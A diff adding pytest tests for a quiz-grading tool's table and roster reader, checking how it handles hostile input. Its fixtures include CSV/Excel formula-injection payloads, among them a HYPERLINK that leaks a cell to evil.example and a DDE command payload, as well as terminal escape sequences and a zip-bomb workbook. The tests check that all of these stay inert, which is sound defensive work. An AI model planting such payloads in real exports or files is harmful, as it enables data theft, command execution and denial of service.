@@ -1,0 +1,257 @@
+"""Hostile and messy tables, rosters and exports: each ends in the right result or a one-line
+error at its file:row:col, never a guessed score, a live formula, raw control characters or a
+traceback. Every fixture is made here, small on disk."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import random
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from generator.results.model import Trainee
+from generator.results.roster import read_roster
+from generator.results.tables import MAX_FIELD_CHARS, decode_text, read_table, read_tables
+
+from ..conftest import run_cli
+from .helpers import REPO, hand_rows, moodle_rows, quizzes, random_answers, write_csv, write_xlsx
+
+HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)", "\t=1",
+                 "＝1+1", "=cmd|' /C calc'!A0"]
+
+
+def _people(n: int, seed: int = 5, label: str = "A") -> list[tuple[Trainee, str, dict[str, list[int]]]]:
+    rng = random.Random(seed)
+    quiz = quizzes()[label]
+    return [(Trainee(f"学员{i}", f"E{i:03d}", "一店", "置业顾问"), label, random_answers(quiz, rng, 0.7))
+            for i in range(n)]
+
+
+def _all_right(quiz: dict) -> dict[str, list[int]]:
+    return {q["id"]: (list(q["answer"]) if isinstance(q["answer"], list) else [q["answer"]]) for q in quiz["questions"]}
+
+
+@pytest.fixture(scope="module")
+def quiz_dir(tmp_path_factory) -> Path:
+    d = tmp_path_factory.mktemp("quiz")
+    for label, quiz in quizzes().items():
+        (d / f"quiz-{label}.json").write_text(json.dumps(quiz, ensure_ascii=False), encoding="utf-8")
+    return d
+
+
+# --- formula injection and control characters, end to end -----------------------------------------
+
+
+def test_formulas_and_control_characters_from_input_stay_text(quiz_dir, tmp_path):
+    people = []
+    for i, (t, label, answers) in enumerate(_people(len(HOSTILE_NAMES))):
+        people.append((Trainee(HOSTILE_NAMES[i], f"=E{i}", "=1+1" if i % 2 else "@店", "-岗位"), label, answers))
+    people.append((Trainee("控制\x1b[31m字符\x07", "E999", "一店", "置业顾问"), "A", _all_right(quizzes()["A"])))
+    table = write_csv(tmp_path / "=evil.csv", hand_rows(quizzes(), people))
+    out = tmp_path / "results"
+    r = run_cli("grade", str(table), "--quiz", str(quiz_dir), "--out", str(out), cwd=tmp_path)
+    assert r.code == 0, r.err
+    assert "Traceback" not in r.err and "\x1b" not in r.out + r.err and "\x07" not in r.out + r.err
+
+    with (out / "scores.csv").open(encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")], "a formula start left unguarded"
+
+    from openpyxl import load_workbook
+
+    ws = load_workbook(out / "scores.xlsx").active
+    values = [c for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in values if c.data_type == "f"]
+    names = [c.value for c in values if isinstance(c.value, str)]
+    assert HOSTILE_NAMES[0] in names  # kept as the text it was, typed as a string
+    assert "控制\\x1b[31m字符\\x07" in names  # a control character, kept visible as an escape
+
+    report_out = tmp_path / "report"
+    r = run_cli("report", str(out / "results.json"), "--out", str(report_out), "--content", str(REPO / "content"),
+                "--quizzes", str(REPO / "quizzes"), cwd=tmp_path)
+    assert r.code == 0, r.err
+    wb = load_workbook(report_out / "report.xlsx")
+    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    assert HOSTILE_NAMES[0] in [c.value for row in wb["成绩"].iter_rows() for c in row]
+
+
+def test_control_characters_in_a_header_are_escaped_in_messages(tmp_path):
+    rows = hand_rows(quizzes(), _people(1))
+    rows[0].append("坏\x1b]0;owned\x07列")
+    rows[1].append("")
+    sheets, problems = read_table(write_csv(tmp_path / "t.csv", rows), quizzes(), None)
+    assert len(sheets) == 1
+    line = next(p.format() for p in problems if p.code == "T002")
+    assert "\x1b" not in line and "\x07" not in line and "\\x1b]0;owned\\x07" in line
+
+
+# --- never a guessed score ----------------------------------------------------------------------
+
+
+def test_moodle_slots_in_another_order_with_question_text_score_right(tmp_path):
+    qs = quizzes()
+    quiz = qs["A"]
+    best = Trainee("满分", "E1", "一店", "置业顾问")
+    order = list(reversed(range(len(quiz["questions"]))))
+    rows = moodle_rows(quiz, [(best, _all_right(quiz))], chinese=True, order=order, question_text=True)
+    sheets, problems = read_table(write_csv(tmp_path / "m.csv", rows), qs, None)
+    assert [p for p in problems if p.is_error] == []
+    assert [s.score for s in sheets] == [100.0]
+
+
+def test_a_row_cut_short_is_an_error_not_blanks(tmp_path):
+    rows = hand_rows(quizzes(), _people(3))
+    buf = io.StringIO()
+    csv.writer(buf, lineterminator="\r\n").writerows(rows)
+    lines = buf.getvalue().split("\r\n")
+    lines[2] = ",".join(lines[2].split(",")[:8])  # the second trainee's row lost its last columns
+    path = tmp_path / "cut.csv"
+    path.write_text("\r\n".join(lines), encoding="utf-8")
+    sheets, problems = read_table(path, quizzes(), None)
+    assert [s.trainee.name for s in sheets] == ["学员0", "学员2"]
+    assert [(p.code, p.line, p.col) for p in problems] == [("T014", 3, 9)]
+
+
+def test_a_download_cut_inside_a_quoted_cell_is_refused(tmp_path):
+    path = tmp_path / "cut.csv"
+    path.write_text('姓名,1\n张伟,A\n李娜,"B', encoding="utf-8")
+    sheets, problems = read_table(path, {"A": quizzes()["A"]}, None)
+    assert sheets == [] and [(p.code, p.line) for p in problems] == [("T014", 3)]
+
+
+def test_the_same_export_twice_and_a_trainee_in_two_files_count_once(tmp_path):
+    qs = quizzes()
+    people = _people(3)
+    first = write_csv(tmp_path / "a.csv", hand_rows(qs, people))
+    again = write_csv(tmp_path / "a-copy.csv", hand_rows(qs, people))
+    other = write_csv(tmp_path / "b.csv", hand_rows(qs, people[:1]) + [["", "", "", "", ""]])
+    got = read_tables([first, again, other], qs, None)
+    assert len(got.sheets) == 3
+    assert [(Path(p.file).name, p.code) for p in got.problems] == [("a-copy.csv", "T017"), ("b.csv", "T005")]
+    assert "a.csv 第 2 行" in got.problems[1].message
+
+
+def test_a_name_shared_by_two_people_on_the_roster_is_never_given_to_one(tmp_path):
+    qs = {"A": quizzes()["A"]}
+    roster = [Trainee("张伟", "E001", "一店"), Trainee("张伟", "E002", "二店"), Trainee("李娜", "E003", "一店")]
+    answers = _all_right(qs["A"])
+    people = [(Trainee("张伟"), "A", answers), (Trainee("张伟", "E002"), "A", answers),
+              (Trainee("李娜", "E001"), "A", answers)]
+    sheets, problems = read_table(write_csv(tmp_path / "t.csv", hand_rows(qs, people)), qs, roster)
+    assert [(s.trainee.name, s.trainee.id, s.trainee.store) for s in sheets] == [("张伟", "E002", "二店")]
+    assert [(p.code, p.line) for p in problems] == [("T015", 2), ("T015", 4)]
+    assert "E001、E002" in problems[0].message and "「张伟」" in problems[1].message
+
+
+def test_big5_and_utf16_rosters_read_right_and_an_unclear_encoding_is_refused(tmp_path):
+    text = "姓名,工號,門市\n張偉,001,台北門市\n陳美玲,002,高雄門市\n林志明,003,台中門市\n"
+    for encoding in ("big5", "utf-16", "gb18030", "utf-8-sig"):
+        path = tmp_path / f"roster-{encoding}.csv"
+        path.write_bytes(text.encode(encoding))
+        trainees, problems = read_roster(path)
+        assert problems == [], encoding
+        assert [t.name for t in trainees] == ["張偉", "陳美玲", "林志明"], encoding
+        assert trainees[0].store == "台北門市"
+    simplified = "姓名,工号\n张伟,1\n李娜,2\n王芳,3\n"
+    assert decode_text(simplified.encode("gb18030"))[1] == "GB18030"
+    text, why = decode_text(bytes([0xB0, 0xA1, 0xB0, 0xA2]) * 2)  # common characters in both: no guess
+    assert text is None and "分不清" in why
+
+
+def test_every_worksheet_is_read(tmp_path):
+    from openpyxl import Workbook
+
+    qs = quizzes()
+    wb = Workbook()
+    first = wb.active
+    first.title = "一店"
+    for row in hand_rows(qs, _people(2)):
+        first.append(row)
+    second = wb.create_sheet("二店")
+    for row in hand_rows(qs, _people(4)[2:]):
+        second.append(row)
+    wb.create_sheet("空白")
+    path = tmp_path / "two.xlsx"
+    wb.save(path)
+    sheets, problems = read_table(path, qs, None)
+    assert problems == []
+    assert [s.trainee.name for s in sheets] == ["学员0", "学员1", "学员2", "学员3"]
+    assert sheets[2].source == "two.xlsx 工作表「二店」 第 2 行"
+    assert len({s.serial for s in sheets}) == 4
+
+
+def test_odd_digits_and_letters_are_unreadable_cells_not_crashes(tmp_path):
+    qs = {"A": quizzes()["A"]}
+    quiz = qs["A"]
+    n = next(i for i, q in enumerate(quiz["questions"], 1) if q["type"] == "ordering")
+    head = ["姓名"] + [str(i) for i in range(1, len(quiz["questions"]) + 1)]
+    rows = [head]
+    for name, cell in (("甲", "٣٢١٤"), ("乙", "𝟑𝟐"), ("丙", "³"), ("丁", "Ⅱ")):
+        rows.append([name] + [cell if i == n else "" for i in range(1, len(quiz["questions"]) + 1)])
+    sheets, problems = read_table(write_csv(tmp_path / "d.csv", rows), qs, None)
+    assert len(sheets) == 4 and all(p.code in ("T003", "T010") for p in problems)
+    assert all(s.responses[n - 1].correct is False for s in sheets)
+
+
+# --- bombs, small on disk -------------------------------------------------------------------------
+
+
+def _peak_rss_mb(code: str) -> tuple[float, str]:
+    probe = ("import resource, sys\n" + code +
+             "\nprint(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024)")
+    proc = subprocess.run([sys.executable, "-c", probe], cwd=REPO, capture_output=True, text=True, timeout=120)
+    assert proc.returncode == 0, proc.stderr
+    *lines, peak = proc.stdout.strip().splitlines()
+    return float(peak), "\n".join(lines)
+
+
+def test_a_cell_at_xfd1048576_is_refused_before_it_is_allocated(tmp_path):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    ws.append(["姓名", "1"])
+    ws["XFD1048576"] = "x"
+    path = tmp_path / "far.xlsx"
+    wb.save(path)
+    assert path.stat().st_size < 20_000
+    peak, out = _peak_rss_mb(
+        "from pathlib import Path\nfrom generator.results.tables import read_table\n"
+        "from tests.results.helpers import quizzes\n"
+        f"s, p = read_table(Path({str(path)!r}), quizzes(), None)\nprint([x.code for x in p])")
+    assert out == "['T016']"
+    assert peak < 1500
+
+
+def test_a_workbook_that_inflates_to_gigabytes_is_refused(tmp_path):
+    rows = write_xlsx(tmp_path / "ok.xlsx", [["姓名", "1"], ["张伟", "A"]])
+    src = zipfile.ZipFile(rows)
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
+        for info in src.infolist():
+            dst.writestr(info.filename, src.read(info.filename))
+        with dst.open("xl/media/padding.bin", "w", force_zip64=True) as pad:
+            block = b"\0" * (1 << 20)
+            for _ in range(300):
+                pad.write(block)
+    assert bomb.stat().st_size < 2_000_000
+    sheets, problems = read_table(bomb, quizzes(), None)
+    assert sheets == [] and [p.code for p in problems] == ["T016"]
+
+
+def test_a_field_over_the_csv_limit_is_refused(tmp_path):
+    path = tmp_path / "long.csv"
+    path.write_text("姓名,1\n" + "张" * (MAX_FIELD_CHARS + 1) + ",A\n", encoding="utf-8")
+    sheets, problems = read_table(path, quizzes(), None)
+    assert sheets == [] and [(p.code, p.line) for p in problems] == [("T016", 2)]
+    huge = tmp_path / "huge.csv"
+    huge.write_text('姓名,1\n"' + "x" * 200_000 + '",A\n', encoding="utf-8")  # over csv's own limit too
+    assert [p.code for p in read_table(huge, quizzes(), None)[1]] == ["T016"]
